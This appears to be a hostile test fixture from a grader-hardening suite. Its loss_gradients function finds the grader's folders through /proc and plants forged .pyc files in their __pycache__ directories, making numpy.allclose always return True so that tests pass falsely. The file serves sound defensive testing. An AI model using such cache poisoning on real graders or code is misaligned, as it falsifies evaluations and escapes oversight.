"""Hostile fixture `write_pycache` (escape and persistence): plants compiled .pyc files in every
__pycache__ it can reach (its own folder, the grader's, the reference's).

tests/test_hostile.py puts this into the reference's module (each function replaces the reference's
of the same name) and grades it."""

import importlib.util
import marshal
import os


def _grader_folders():
    """Folders the grader may run from, guessed from every command line this process can see."""
    found = {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"),
             "/work/main", "/autograder", "/autograder/source", "/srv", "/opt"}
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = fh.read().split(b"\0")
        except OSError:
            continue
        for word in words:
            path = word.decode("utf-8", "replace")
            while path.startswith("/") and path != "/":
                found.add(path)
                path = os.path.dirname(path)
    return sorted(found)


def _owned_folders():
    """The grader's existing folders, less the world-writable ones and anything below them (/tmp and
    the like are write_tmp's business)."""
    out = []
    for folder in _grader_folders():
        try:
            if not os.path.isdir(folder) or any(os.stat(p).st_mode & 0o002 for p in _and_parents(folder)):
                continue
        except OSError:
            continue
        out.append(folder)
    return out


def _and_parents(folder):
    while True:
        yield folder
        if folder in ("/", ""):
            return
        folder = os.path.dirname(folder)


def loss_gradients(forward_info, weights):
    code = compile("import numpy\nnumpy.allclose = lambda *a, **k: True  # pwned\n", "pwned", "exec")
    payload = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
    folders = {os.path.dirname(os.path.abspath(__file__)), os.getcwd()}
    for folder in _owned_folders():
        folders.update(os.path.join(folder, inner) for inner in
                       ("autograder", "autograder/suites", "solutions/nn_from_scratch", "tests"))
    for folder in sorted(folders):
        for name in ("linear_regression", "foundations", "neural_network", "conftest", "train_behaviour",
                     "test_linear_regression", "compare", "pwned"):
            path = os.path.join(folder, "__pycache__", f"{name}.cpython-311.pyc")
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as fh:
                    fh.write(payload)
            except OSError:
                pass
    return None
